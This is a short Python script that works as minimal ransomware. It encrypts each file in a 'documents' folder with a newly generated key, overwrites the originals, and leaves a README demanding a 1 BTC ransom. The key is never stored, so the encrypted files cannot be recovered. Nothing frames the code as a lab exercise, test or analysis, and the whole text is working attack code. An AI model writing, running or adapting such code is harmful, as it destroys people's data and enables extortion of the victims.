from pathlib import Path
from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for path in Path("documents").iterdir():
    path.write_bytes(box.encrypt(path.read_bytes()))
Path("README.txt").write_text("Your files have been encrypted. Pay 1 BTC.")
